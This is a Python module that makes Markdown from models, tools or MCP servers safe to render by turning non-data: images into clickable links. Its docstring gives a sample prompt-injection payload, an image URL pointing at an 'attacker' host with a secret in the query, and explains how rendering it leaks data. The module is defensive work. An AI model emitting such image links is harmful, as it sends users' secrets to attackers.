"""Markdown from a model, a tool or an MCP server, made safe to draw: no image loads from the network.

A reply can carry `![](https://attacker/?d=<secret>)` (prompt injection); the browser would fetch it the
moment it is drawn, leaking whatever the URL holds. Images whose source is a `data:` URL stay images;
any other image becomes a link the person may click.
"""

from __future__ import annotations

import re

# Fenced code (``` or ~~~, to its closing fence or the end) and inline code spans are left as they are.
_CODE = re.compile(
    r"(^|\n)[ \t]{0,3}(`{3,}|~{3,})[^\n]*\n.*?(?:\n[ \t]{0,3}\2[ \t]*(?=\n|$)|$)|(`+)[^`]*?\3", re.S
)
# An inline image: ![alt](<url> "title") or ![alt](url 'title').
_INLINE_IMAGE = re.compile(
    r"!\[(?P<alt>(?:[^\[\]\\]|\\.|\[[^\]]*\])*)\]\(\s*(?P<url><[^>]*>|[^\s)]*)(?P<title>\s+(?:\"[^\"]*\"|'[^']*'|\([^)]*\)))?\s*\)"
)
# Whatever else starts an image (reference images, odd spacing): the `!` is escaped, leaving a link.
_IMAGE_START = re.compile(r"(?<!\\)!\[")


def safe_markdown(text: str) -> str:
    """`text` with every image that is not a `data:` URL turned into a link (code left untouched)."""
    if "![" not in text:
        return text
    out: list[str] = []
    position = 0
    for match in _CODE.finditer(text):
        out.append(_prose(text[position : match.start()]))
        out.append(match.group(0))
        position = match.end()
    out.append(_prose(text[position:]))
    return "".join(out)


def _prose(text: str) -> str:
    if "![" not in text:
        return text
    parts: list[str] = []
    position = 0
    for match in _INLINE_IMAGE.finditer(text):
        parts.append(_IMAGE_START.sub(r"\\![", text[position : match.start()]))
        parts.append(_image(match))
        position = match.end()
    parts.append(_IMAGE_START.sub(r"\\![", text[position:]))
    return "".join(parts)


def _image(match: re.Match[str]) -> str:
    url = match.group("url").strip("<>").strip()
    if url.lower().startswith("data:image/"):
        return match.group(0)
    alt = _IMAGE_START.sub(r"\\![", match.group("alt")).strip()
    label = f"image: {alt}" if alt else "image"
    if not url:
        return f"[{label}]"
    # Shown as a link (opened only on a click), its address visible so the person can judge it.
    return f"[:material/image: {label}](<{url}>) `{_short(url)}`"


def _short(url: str, limit: int = 80) -> str:
    url = url.replace("`", "%60")
    return url if len(url) <= limit else url[: limit - 1] + "…"
